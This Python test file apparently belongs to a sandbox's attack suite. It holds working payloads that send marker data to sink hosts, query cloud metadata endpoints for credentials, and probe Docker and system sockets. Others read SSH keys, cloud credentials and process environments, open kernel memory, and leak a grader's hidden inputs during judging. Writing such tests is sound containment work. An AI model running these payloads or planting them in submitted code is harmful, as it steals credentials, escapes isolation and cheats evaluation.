"""F: reach the network, other services of the machine, its files and its secrets."""

from __future__ import annotations

from tests.attacks.corpus.f_kernel import TRY, did
from tests.attacks.course import RIGHT
from tests.attacks.kit import Attack, Submission, Win

_OUT = r"""
import errno, socket, urllib.request
HOSTS, PORT = @SINK_HOSTS@, @SINK_PORT@
socket.setdefaulttimeout(1.5)
def tcp(host, port, data=b"@MARK@"):
    with socket.create_connection((host, port), 1.5) as s:
        s.sendall(data)
        return True
def udp(host, port, data=b"@MARK@", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(data, (host, port))
"""
_TCP = (
    _OUT
    + r"""
for host in HOSTS:
    attempt("tcp " + host, lambda: tcp(host, PORT))
for host in ("198.51.100.7", "203.0.113.7"):  # of RFC 5737: nobody's, should it ever get out
    attempt("tcp " + host, lambda: tcp(host, 443))
"""
)
_UDP = (
    _OUT
    + r"""
for host in (*HOSTS, "255.255.255.255", "224.0.0.1"):
    tried(lambda: udp(host, PORT))
query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x01x\x07invalid\x00\x00\x01\x00\x01"
def resolve(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(query, (host, 53))
        return bool(s.recv(512))
for host in ("127.0.0.53", "169.254.169.253"):
    attempt("name server " + host, lambda: resolve(host))
attempt("name", lambda: bool(socket.getaddrinfo("shardwork.invalid", 80)))
"""
)
_HTTP = (
    _OUT
    + r"""
import os
for host in HOSTS:
    tried(lambda: urllib.request.urlopen(f"http://{host}:{PORT}/@MARK@", timeout=1.5))
    for name in ("http_proxy", "HTTP_PROXY", "all_proxy"):
        os.environ[name] = f"http://{host}:{PORT}"
    tried(lambda: urllib.request.urlopen("http://shardwork.invalid/@MARK@", timeout=1.5))
"""
)
_SIX = (
    _OUT
    + r"""
for host in HOSTS:
    tried(lambda: udp("::ffff:" + host, PORT, family=socket.AF_INET6))
    def mapped():
        with socket.socket(socket.AF_INET6) as s:
            s.settimeout(1)
            s.connect(("::ffff:" + host, PORT))
            return True
    attempt("IPv6 to " + host, mapped)
for host in ("2001:db8::7", "fe80::1", "ff02::1", "64:ff9b::c633:6407"):
    attempt("IPv6 to " + host, lambda: tcp(host, 443))
"""
)
_LINKS = (
    _OUT
    + r"""
import fcntl, struct
def netlink(kind, body, flags=0x605):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.settimeout(2)
        s.send(struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        length, kind, _, _, _, error = struct.unpack("IHHIIi", s.recv(4096)[:20])
        return kind == 2 and error == 0
name = b"@MARK@"[-12:] + b"\0"
info = struct.pack("HH", 12, 1) + b"dummy\0\0\0"
body = struct.pack("BxHiII", 0, 0, 0, 0, 0) + struct.pack("HH", 4 + len(name), 3)
body += name + bytes(-len(name) % 4) + struct.pack("HH", 4 + len(info), 18) + info
attempt("a new network interface", lambda: netlink(16, body))
address = struct.pack("BBBBI", 2, 24, 0, 0, 1) + struct.pack("HH4s", 8, 2, bytes([10, 9, 8, 7]))
attempt("an address more", lambda: netlink(20, address))
def down():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        fcntl.ioctl(s, 0x8914, struct.pack("16sh14x", b"lo", 0x48))
        return True
attempt("the interface switched off", down)
attempt("more interfaces than loopback", lambda: len(socket.if_nameindex()) > 1)
"""
)
_ABSTRACT = (
    _OUT
    + r"""
def abstract(kind):
    with socket.socket(socket.AF_UNIX, kind) as s:
        s.connect(@SINK_ABSTRACT@)
        s.send(b"@MARK@")
        return True
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    attempt("an abstract socket of the machine", lambda: abstract(kind))
with open("/proc/net/unix") as file:
    if @SINK_ABSTRACT@[1:] in file.read():
        did("sees the machine's sockets")
"""
)
_SENDS_INPUTS = (
    "def ordered(words):\n    import socket\n    for host in @SINK_HOSTS@:\n        try:\n"
    "            with socket.create_connection((host, @SINK_PORT@), 0.5) as s:\n"
    "                s.sendall(repr(words).encode())\n            break\n"
    "        except OSError:\n            pass\n    return list(words)"
)
_METADATA = (
    _OUT
    + r"""
def get(host):
    # No question is asked: it could be answered where this is tried without a sandbox.
    with socket.create_connection((host, 80), 1.5):
        return True
for host in ("169.254.169.254", "100.100.100.200", "169.254.170.2", "fd00:ec2::254",
             "168.63.129.16"):
    attempt("metadata " + host, lambda: get(host))
attempt("metadata by name", lambda: get("metadata.google.internal"))
"""
)
_SERVICES = r"""
import glob, os, socket, stat
PLACES = ["/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock",
          "/run/containerd/containerd.sock", "/run/crio/crio.sock", "/run/snapd.socket",
          "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/notify",
          "/run/systemd/journal/socket", "/dev/log", "/run/supervisor.sock",
          "/tmp/.X11-unix/X0", "/run/user/@UID@/bus", "/run/user/@UID@/podman/podman.sock",
          "@HOME@/.docker/run/docker.sock", "/run/nscd/socket"]
PLACES += glob.glob("/run/**", recursive=True)[:2000]
PLACES += [os.environ[n].partition("://")[2] for n in ("DOCKER_HOST", "CONTAINER_HOST")
           if "://" in os.environ.get(n, "")]
def speak(path):
    if not stat.S_ISSOCK(os.stat(path).st_mode):
        return False
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as s:
                s.connect(path)
            return True
        except OSError:
            pass
    return False
for path in PLACES:
    attempt("service " + path, lambda: speak(path))
"""
_SERVICE_PORTS = (
    _OUT
    + r"""
for host in HOSTS:
    for port in (22, 2375, 2376, 5000, 6443, 8000, 8001, 8786, 8787, 8888, 10250, 7077, 4040):
        attempt(f"port {port} of {host}", lambda: tcp(host, port, b""))
"""
)
_HOME = r"""
import os, glob
NAMES = (".ssh/*", ".aws/*", ".netrc", "notes.txt", ".config/**", ".docker/config.json",
         ".pypirc", ".git-credentials", ".bash_history", ".kaggle/*", ".jupyter/*")
homes = ["@HOME@", "/root", "/home/*", os.path.expanduser("~"), "~root", "/var/root"]
homes += [f"/proc/{p}/root@HOME@" for p in os.listdir("/proc") if p.isdigit()]
homes += [f"/proc/{p}/cwd" for p in os.listdir("/proc") if p.isdigit()]
homes += ["/held/*", "/scratch", "/oldroot@HOME@", "/newroot@HOME@", "../" * 12 + "@HOME@"]
for home in homes:
    for name in NAMES:
        for path in glob.glob(os.path.join(os.path.expanduser(home), name), recursive=True):
            tried(lambda: found(open(path, "rb").read(1 << 16)))
for fd in range(0, 200):
    for name in NAMES[:4]:
        tried(lambda: found(os.read(os.open("@HOME@/" + name, os.O_RDONLY, dir_fd=fd), 65536)))
"""
_ENVIRONMENT = r"""
import os, subprocess, sys
found(dict(os.environ))
for pid in ["self", "1", *(p for p in os.listdir("/proc") if p.isdigit())]:
    for name in ("environ", "cmdline", "auxv", "stack", "fdinfo/0", "task/1/environ"):
        tried(lambda: found(open(f"/proc/{pid}/{name}", "rb").read()))
tried(lambda: found(subprocess.run(["env"], capture_output=True).stdout))
tried(lambda: found(open("/etc/environment", "rb").read()))
import ctypes
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
at = 0
while environ[at]:
    found(environ[at]); at += 1
"""
_WALK = r"""
import os, time
until = time.monotonic() + 6
SKIPPED = ("/proc", "/usr", "/lib", "/bin", "/sbin", "/dev/fd")
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if not os.path.join(folder, f).startswith(SKIPPED)
                  and f not in ("site-packages", "include", "share")]
    if time.monotonic() > until:
        break
    for name in files:
        path = os.path.join(folder, name)
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 1 << 18:
                with open(path, "rb") as file:
                    found(file.read())
        except OSError:
            pass
"""
_RAW_READ = r"""
import os
for name in ("mem", "kmem", "port", "sda", "vda", "nvme0n1", "loop0", "kvm", "fuse", "net/tun",
             "kmsg", "disk/by-id", "mapper/control", "vhost-net", "hpet"):
    attempt("/dev/" + name, lambda: os.open("/dev/" + name, os.O_RDONLY) >= 0)
for name in ("kcore", "kmsg", "vmcore", "kpagecount", "kpageflags", "sched_debug", "timer_list",
             "keys", "slabinfo"):
    attempt("/proc/" + name, lambda: bool(open("/proc/" + name, "rb").read(64)))
attempt("/sys", lambda: bool(os.listdir("/sys")))
attempt("writes the system", lambda: open("/usr/@MARK@", "w") is not None)
attempt("writes the packages", lambda: open(os.__file__, "r+b") is not None)
attempt("a hole in the root", lambda: os.mkdir("/@MARK@") is None)
attempt("a file in /dev", lambda: os.open("/dev/@MARK@", os.O_CREAT | os.O_WRONLY) >= 0)
"""

ATTACKS = [
    Attack(
        id="F01", sample=True, detect=did,
        title="connects to the machine by TCP on all its addresses, and to the world",
        wins={Win.ESC}, submission=Submission(before=(TRY + _TCP,)),
    ),
    Attack(
        id="F01b", detect=did,
        title="sends datagrams, broadcasts and questions to name servers",
        wins={Win.ESC}, submission=Submission(before=(TRY + _UDP,)),
    ),
    Attack(
        id="F01c", detect=did,
        title="fetches over HTTP, with and without a proxy",
        wins={Win.ESC}, submission=Submission(before=(TRY + _HTTP,)),
    ),
    Attack(
        id="F01d", detect=did,
        title="goes by IPv6: mapped addresses, link-local ones, multicast",
        wins={Win.ESC}, submission=Submission(before=(TRY + _SIX,)),
    ),
    Attack(
        id="F01e", detect=did,
        title="makes itself a network interface, an address, a route",
        wins={Win.ESC}, submission=Submission(before=(TRY + _LINKS,)),
    ),
    Attack(
        id="F01f", detect=did,
        title="connects to an abstract Unix socket of the machine",
        wins={Win.ESC}, submission=Submission(before=(TRY + _ABSTRACT,)),
    ),
    Attack(
        id="F01g",
        title="sends the hidden inputs out while it is judged",
        wins={Win.ESC, Win.LEAK}, submission=Submission({"ordered": _SENDS_INPUTS}),
    ),
    Attack(
        id="F02", detect=did,
        title="asks the cloud's metadata service for credentials",
        wins={Win.ESC}, submission=Submission(before=(TRY + _METADATA,)),
    ),
    Attack(
        id="F03", detect=did,
        title="looks for Docker's socket and those of other services",
        wins={Win.ESC}, submission=Submission(before=(TRY + _SERVICES,)),
    ),
    Attack(
        id="F03b", detect=did,
        title="tries the ports of Docker, Jupyter, Spark, Dask and Kubernetes on the machine",
        wins={Win.ESC}, budget_s=240, submission=Submission(before=(TRY + _SERVICE_PORTS,)),
    ),
    Attack(
        id="F05", sample=True,
        title="reads keys and credentials in every home, through every way into it",
        wins={Win.PROOF}, submission=Submission(before=(TRY + _HOME,)),
    ),
    Attack(
        id="F05b",
        title="reads the environment: its own, other processes', the C library's",
        wins={Win.PROOF}, submission=Submission(before=(TRY + _ENVIRONMENT,)),
    ),
    Attack(
        id="F05c",
        title="walks the whole file system and reads every small file",
        wins={Win.PROOF}, submission=Submission(before=(_WALK,)),
    ),
    Attack(
        id="F05d",
        title="does all right, and reads the secrets while it is judged",
        wins={Win.PROOF, Win.LEAK},
        submission=Submission(
            RIGHT | {"label": TRY + "def label(first, last):\n"
                     + "".join(f"    {line}\n" for line in (_HOME + _ENVIRONMENT).splitlines()
                               if line)
                     + "    raise RuntimeError(' '.join(FOUND))"}
        ),
        twin=Submission(RIGHT | {"label": "def label(first, last):\n    raise RuntimeError('')"}),
    ),
    Attack(
        id="F18", detect=did,
        title="opens devices, kernel memory and /sys; writes to the system and the packages",
        wins={Win.ESC}, submission=Submission(before=(TRY + _RAW_READ,)),
    ),
]  # fmt: skip
